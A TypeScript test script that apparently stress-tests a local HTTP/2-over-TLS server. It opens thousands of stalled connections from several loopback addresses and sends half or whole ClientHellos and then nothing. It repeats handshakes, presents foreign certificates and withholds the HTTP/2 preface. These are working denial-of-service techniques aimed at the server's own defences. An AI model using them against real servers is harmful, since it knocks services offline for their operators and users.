/**
 * Connections that never get as far as a request, in the ways that the first argument names: they
 * say nothing, half a ClientHello, a whole one and then nothing, shake hands again and again, or
 * once and then say nothing. They come from many addresses of this machine's loopback.
 */
import { readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { type Attack, runAttack } from "./script.ts";

/** Of openssl s_client: TLS 1.3 with X25519, so that the server computes a key at once. */
const CLIENT_HELLO = Buffer.from(
  [
    "FgMBAM8BAADLAwPTT1YpD9872iVTEMAwKCzgqBZvg7ny0eYXe+4IQIdFKiD26J181G+YV7jVg5g9",
    "/XxmxTVpJu8tbB3SCbqN34Pg9gAEEwEA/wEAAH4ACwAEAwABAgAKAAQAAgAdACMAAAAQAAUAAwJo",
    "MgAWAAAAFwAAAA0AHgAcBAMFAwYDCAcICAgJCAoICwgECAUIBgQBBQEGAQArAAMCAwQALQACAQEA",
    "MwAmACQAHQAgt+2GwD7DDfgRHhKBvALg+eBMt0b1A/EB9+eDnLM1UxI=",
  ].join(""),
  "base64",
);

/** With it HTTP/2 begins, and the server would answer with its SETTINGS. */
const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0", "latin1");

/** As many as an attacker opens with ease; more than the server keeps waiting. */
const STALLED_COUNT = 2000;
const SOURCE_COUNT = 8;
/** At once; each is closed when it has cost the server its part, and another comes. */
const WORKERS = 16;
/** Of those that come as far as TLS; fewer than one place may have under way. */
const HELD_COUNT = 200;

const MODES: Readonly<Record<string, (attack: Attack) => Promise<void>>> = {
  silent: (attack) => stall(attack, Buffer.alloc(0)),
  "half a ClientHello": (attack) => stall(attack, CLIENT_HELLO.subarray(0, 100)),
  "a ClientHello, then nothing": (attack) => stall(attack, CLIENT_HELLO),
  "a ClientHello, again and again": (attack) => again(attack, helloOnce),
  "whole handshakes, again and again": (attack) => again(attack, shakeOnce),
  "foreign certificates, again and again": (attack) => again(attack, showForeign),
  "no preface": (attack) => hold(attack, plainSocket),
  "no preface in TLS": (attack) => hold(attack, secureSocket),
};

await runAttack(async (attack) => {
  const [name = ""] = attack.args;
  const mode = MODES[name];
  if (mode === undefined) throw new Error(`no such way: ${name}`);
  await mode(attack);
});

/** Opens all and keeps them; counts those that the server ends. */
async function stall(attack: Attack, first: Buffer): Promise<void> {
  const open = new Set<Socket>();
  let isOver = false;
  attack.begin();
  for (let i = 0; i < STALLED_COUNT && !attack.over; i++) {
    // 127.0.0.1 is that of the client who behaves.
    const localAddress = `127.0.1.${1 + (i % SOURCE_COUNT)}`;
    const socket = connect({ host: "127.0.0.1", port: attack.port, localAddress });
    socket.on("connect", () => {
      attack.count("connections");
      if (first.length > 0) socket.write(first);
    });
    socket.on("error", () => undefined); // its close is counted
    socket.on("close", () => {
      open.delete(socket);
      if (!isOver) attack.end("cut");
    });
    open.add(socket);
    if (i % 100 === 99) await Bun.sleep(1);
  }
  await Bun.sleep(attack.leftMs);
  isOver = true;
  for (const socket of open) socket.destroy();
}

/** Opens some and keeps them, until the server has ended all. */
async function hold(attack: Attack, open: (port: number) => Socket): Promise<void> {
  attack.begin();
  const ends: Promise<void>[] = [];
  while (!attack.over && ends.length < HELD_COUNT) {
    const { promise, resolve } = Promise.withResolvers<void>();
    const socket = open(attack.port);
    socket.on("connect", () => attack.count("connections"));
    socket.on("error", () => undefined); // its close is counted
    socket.on("close", () => {
      attack.end("cut");
      resolve();
    });
    ends.push(promise);
    if (ends.length % 20 === 0) await Bun.sleep(1);
  }
  await Promise.all(ends);
}

function plainSocket(port: number): Socket {
  return connect({ host: "127.0.0.1", port, localAddress: "127.0.1.1" });
}

function secureSocket(port: number): Socket {
  const where = { host: "127.0.0.1", port, servername: "localhost" };
  return connectTls({ ...where, rejectUnauthorized: false, ALPNProtocols: ["h2"] });
}

async function again(attack: Attack, once: (attack: Attack) => Promise<void>): Promise<void> {
  attack.begin();
  const workers = Array.from({ length: WORKERS }, async () => {
    while (!attack.over) await once(attack);
  });
  await Promise.all(workers);
}

/** Until the server has answered with its part of the key. */
async function helloOnce(attack: Attack): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = connect({ host: "127.0.0.1", port: attack.port });
  socket.on("connect", () => socket.write(CLIENT_HELLO));
  socket.on("data", () => {
    attack.count("hellos answered");
    socket.destroy();
  });
  socket.on("error", () => attack.end("error"));
  socket.on("close", () => resolve());
  await promise;
}

async function shakeOnce(attack: Attack): Promise<void> {
  const { promise, resolve } = Promise.withResolvers<void>();
  const socket = secureSocket(attack.port);
  socket.on("secureConnect", () => {
    attack.count("handshakes");
    socket.destroy();
  });
  socket.on("error", () => attack.end("error"));
  socket.on("close", () => resolve());
  await promise;
}

/** The script's further arguments: a certificate that the server's authority did not sign. */
async function showForeign(attack: Attack): Promise<void> {
  const [, cert = "", key = ""] = attack.args;
  const { promise, resolve } = Promise.withResolvers<void>();
  const where = { host: "127.0.0.1", port: attack.port, servername: "localhost" };
  const shown = { cert: readFileSync(cert), key: readFileSync(key), ALPNProtocols: ["h2"] };
  const socket = connectTls({ ...where, ...shown, rejectUnauthorized: false });
  socket.on("secureConnect", () => {
    attack.count("handshakes"); // of TLS 1.3, where the server has not seen the certificate yet
    socket.write(PREFACE);
  });
  socket.on("data", () => attack.count("answers"));
  socket.on("error", () => attack.end("error"));
  socket.on("close", () => {
    attack.end("closed");
    resolve();
  });
  await promise;
}
